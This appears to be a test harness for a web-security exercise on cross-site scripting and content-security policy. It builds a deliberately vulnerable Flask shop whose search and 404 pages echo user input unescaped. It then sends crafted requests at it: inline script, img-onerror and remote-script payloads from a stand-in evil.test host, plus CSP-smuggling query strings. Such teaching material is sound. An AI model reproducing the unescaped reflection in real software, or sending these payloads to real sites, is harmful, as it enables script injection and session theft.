"""The shop of exercise 00-2, which writes into its pages what it is asked, and its visitors."""

from __future__ import annotations

from collections.abc import Sequence
from random import Random
from typing import Any
from urllib.parse import quote

from flask import Flask, request

from helpers.exchange import Request, get, post
from helpers.exercises.arrivals import (
    BY_HTTP,
    FIREFOX,
    OTHER_NAME,
    by_form,
    by_link,
    by_visitors,
)
from helpers.exercises.drawn import drawn

FILES = "<link rel=stylesheet href=/style.css><script src=/app.js></script>"
PLACES = (
    *("/static/{}", "/{}.js", "/{}.css", "/{}.html", "/app.js{}", "/api/{}", "/Cup-{}"),
    *("/{}.png", "/{}/", "/search?q={};script-src%20'unsafe-inline'"),
    *("/admin/{}.json", "/caf%C3%A9-100%25-{}", "/search?q={}&q=caf%C3%A9"),
    "/" + "very-" * 60 + "{}",
    "/{}%3B%20script-src-elem%20'unsafe-inline'",
    "/search?q={};script-src",
    "/search?q={}&csp=x&cdn=https://evil.test&debug=1",
    "/search?q={}&policy=x&allow=https://evil.test&preview=1&nocsp=1&raw=1",
    "/search?q=" + "%20" * 300 + "{}",
)
"""Addresses of pages that repeat what stands there, where a policy may have been left out."""


def search_shop() -> Flask:
    """The app of exercise 2: words of the visitor's in two pages, and two files of its own."""
    app = Flask("shop")

    @app.get("/search")
    def search() -> str:
        return f"{FILES}<p>No coffee is called {request.args.get('q', '')}</p>"

    @app.errorhandler(404)
    def not_found(_error: Any) -> Any:
        return f"{FILES}<p>No page is called {request.path}</p>", 404

    @app.get("/app.js")
    def script() -> Any:
        return "document.title = 'Coffee shop'", {"Content-Type": "text/javascript"}

    @app.get("/style.css")
    def style() -> Any:
        return "p { color: green }", {"Content-Type": "text/css"}

    return app


def attacks(random: Random) -> Sequence[Request]:
    """Both pages, plain and with a script in the words, by https and by http; the shop's files.

    A form on any site may be sent to a wrong address as well. An attacker chooses the address: one
    that looks like a file's, one with more in its query; and the page that the link stands on.
    """
    word = drawn(random)
    inline = quote(f"<script>{word}()</script>")
    attribute = quote(f"<img src=x onerror={word}()>")
    foreign = quote(f"<script src=//{word}.test/x.js></script>")
    words = (word, inline, attribute, foreign)
    pages = [*(f"/search?q={each}" for each in words), *(f"/{each}" for each in words)]
    asked = [get(path) for path in ("/search", *pages, "/app.js", "/style.css")]
    by_http = [get(path + inline, site=BY_HTTP) for path in ("/search?q=", "/")]
    asked += [get(place.format(attribute)) for place in PLACES]
    return [
        *asked,
        *by_http,
        *_led(f"/search?q={foreign}"),
        post(f"/{word}"),
        by_form(f"/{inline}", q="1"),
    ]


def _led(path: str) -> list[Request]:
    """The page as somebody gets it whom evil.test leads there, with any browser, by any name."""
    return [
        by_link(path, cookie="session=ann"),
        by_link(path, sec_fetch_dest="iframe"),
        get(path, user_agent=FIREFOX, accept_language="de"),
        get(path, OTHER_NAME),
        get(path, BY_HTTP, x_forwarded_proto="http"),
        *by_visitors(path),
    ]
